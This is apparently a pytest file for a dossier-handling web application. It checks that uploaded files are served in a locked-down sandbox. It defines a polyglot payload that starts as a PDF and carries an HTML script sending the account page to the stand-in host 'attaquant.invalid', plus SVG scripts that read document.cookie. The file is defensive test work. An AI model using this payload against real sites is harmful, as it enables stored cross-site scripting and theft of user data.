"""A hostile piece never runs in the site's origin (issue 13, §3): a file that passes the
checks by content (it starts as a PDF) but holds HTML, SVG and script is served by every route
that hands out files (a dossier's pieces, shown or downloaded, its ZIP and summary, the
messagerie's and annotations' pieces jointes, the experts' pieces, an export) in a sandbox that
loads nothing, never sniffed, and downloaded rather than shown unless it is a PDF."""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from pathlib import Path

from sqlalchemy import select
from sqlalchemy.orm import Session
from werkzeug.test import TestResponse

from engine.core.models import Document
from engine.core.pieces import DocumentStore
from tests.dossiers import walk_until
from tests.experts import OPINION, invite, link_path
from tests.experts import emails_to as emails_to_address
from tests.messagerie import QUESTION, write
from tests.support import Browser, text_of

NewBrowser = Callable[[], Browser]
RAPPORTEUR = "rapporteur@example.org"
EXPERT_EMAIL = "jeanne.expert@example.org"
# Starts as a PDF (so it passes the check by content), then HTML and SVG with scripts.
HOSTILE = (
    b"%PDF-1.4\n<html><body><script>fetch('/compte/').then(r=>r.text())"
    b".then(t=>navigator.sendBeacon('//attaquant.invalid',t))</script>"
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
    b"<script>alert(1)</script></svg></body></html>\n%%EOF\n"
)


def hostile(name: str) -> tuple[object, str]:
    return io.BytesIO(HOSTILE), name


def directives(response: TestResponse) -> dict[str, list[str]]:
    policy = response.headers.get("Content-Security-Policy", "")
    return {part.split()[0]: part.split()[1:] for part in policy.split(";") if part.strip()}


def assert_sandboxed(response: TestResponse, what: str, *, inline: bool = False) -> None:
    assert response.status_code == 200, (what, response.status_code, text_of(response))
    policy = directives(response)
    assert "sandbox" in policy and policy["sandbox"] == [], (what, policy)  # no allow-*
    assert policy.get("frame-ancestors") == ["'none'"], (what, policy)
    if not inline:
        assert policy.get("default-src") == ["'none'"], (what, policy)
    assert response.headers.get("X-Content-Type-Options") == "nosniff", what
    disposition = response.headers.get("Content-Disposition", "")
    if inline:
        assert response.mimetype == "application/pdf", what
        assert disposition.startswith("inline"), (what, disposition)
    else:
        assert disposition.startswith("attachment"), (what, disposition)
    assert "no-store" in response.headers.get("Cache-Control", ""), what


def test_every_route_serving_a_file_sandboxes_a_hostile_piece(
    browser_factory: NewBrowser, session: Session, upload_dir: Path
) -> None:
    walker = walk_until(browser_factory, "instruire_demande", organisation="cpne")
    dossier = walker.dossier_id
    submitter = walker.demandeur
    rapporteur = walker.as_user(RAPPORTEUR)

    # The dossier's own piece holds the hostile bytes (a PDF by its first bytes, like any).
    session.rollback()
    piece = session.scalars(
        select(Document).where(Document.instance_id == dossier).order_by(Document.id)
    ).first()
    assert piece is not None
    DocumentStore(upload_dir).path_for(piece.storage_key).write_bytes(HOSTILE)
    # A message and an annotation carry it as a piece jointe: it passes the checks.
    sent = write(submitter, f"/demandes/{dossier}/messages", QUESTION, [hostile("page.pdf")])
    assert sent.status_code == 302, text_of(sent)
    noted = write(
        rapporteur, f"/instruction/dossiers/{dossier}/annotations", "Note.", [hostile("n.pdf")]
    )
    assert noted.status_code == 302, text_of(noted)
    page = rapporteur.get(f"/instruction/dossiers/{dossier}").get_data(as_text=True)
    message_piece = re.search(r'href="(/pieces-jointes/messages/\d+)"', page)
    annotation_piece = re.search(r'href="(/pieces-jointes/annotations/\d+)"', page)
    assert message_piece and annotation_piece

    # The expert reads the dossier's piece and gives an opinion with the hostile file.
    assert invite(rapporteur, dossier, email=EXPERT_EMAIL).status_code == 302
    walker.run_jobs()
    [email] = emails_to_address(session, EXPERT_EMAIL, "avis_expert_invitation")
    expert = browser_factory()
    assert expert.get(link_path(email)).status_code == 303
    expert_page = expert.get("/avis-expert/").get_data(as_text=True)
    expert_pieces = re.findall(r'href="(/avis-expert/pieces/\d+)"', expert_page)
    assert expert_pieces
    expert_download = expert.get(expert_pieces[0])
    assert expert_download.data == HOSTILE
    assert_sandboxed(expert_download, "expert's download of the dossier's piece")
    given = expert.post(
        "/avis-expert/",
        {"texte": OPINION, "pieces": [hostile("avis.pdf")]},
        content_type="multipart/form-data",
    )
    assert given.status_code == 303, text_of(given)
    page = rapporteur.get(f"/instruction/dossiers/{dossier}").get_data(as_text=True)
    opinion_piece = re.search(r'href="(/pieces-jointes/avis-experts/\d+)"', page)
    assert opinion_piece

    for url, who in (
        (f"/pieces/{piece.id}", submitter),
        (f"/pieces/{piece.id}", rapporteur),
        (f"/pieces/dossiers/{dossier}.zip", submitter),
        (message_piece.group(1), rapporteur),
        (message_piece.group(1), submitter),
        (annotation_piece.group(1), rapporteur),
        (opinion_piece.group(1), rapporteur),
    ):
        response = who.get(url)
        assert_sandboxed(response, url)
        if not url.endswith(".zip"):
            assert response.data == HOSTILE, url
    # Shown in the browser: a PDF only, in the sandbox the PDF viewer works in.
    shown = submitter.get(f"/pieces/{piece.id}/ouvrir")
    assert_sandboxed(shown, "ouvrir", inline=True)
    summary = submitter.get(f"/pieces/dossiers/{dossier}/recapitulatif.pdf")
    assert_sandboxed(summary, "récapitulatif", inline=True)

    # A piece recorded as HTML or SVG (by a script, an older version): never shown inline,
    # even at the address that shows PDFs.
    for content_type in ("text/html", "image/svg+xml"):
        session.rollback()
        session.execute(
            Document.__table__.update()
            .where(Document.id == piece.id)
            .values(content_type=content_type)
        )
        session.commit()
        for url in (f"/pieces/{piece.id}/ouvrir", f"/pieces/{piece.id}"):
            response = submitter.get(url)
            assert_sandboxed(response, f"{content_type} {url}")
            assert response.mimetype == content_type


def test_an_export_is_downloaded_in_the_sandbox(browser_factory: NewBrowser) -> None:
    walker = walk_until(browser_factory, "instruire_demande", organisation="cpne")
    agent = walker.as_user("recevabilite@example.org")
    export = agent.post(
        "/instruction/export",
        {"format": "csv", "colonne": ["reference", "intitule"]},
        from_page="/instruction/export",
    )
    assert_sandboxed(export, "export")
